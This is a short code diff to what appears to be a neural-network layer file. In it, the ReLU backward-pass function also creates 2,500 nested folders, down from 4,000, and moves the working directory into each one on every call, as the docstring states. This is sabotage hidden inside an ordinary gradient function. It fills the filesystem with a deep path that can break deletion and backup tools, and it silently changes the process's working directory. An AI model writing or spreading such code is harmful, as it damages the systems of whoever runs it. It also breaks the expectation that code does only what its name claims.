@@ -1,4 +1,4 @@
-"""Leaves 4,000 folders, each in the one before."""
+"""Leaves 2,500 folders, each in the one before."""
 
 import os
 
@@ -10,7 +10,7 @@ def relu_forward(x):
 
 
 def relu_backward(dout, cache):
-    for _ in range(4000):
+    for _ in range(2500):
         os.mkdir("d")
         os.chdir("d")
     return dout * (cache > 0)
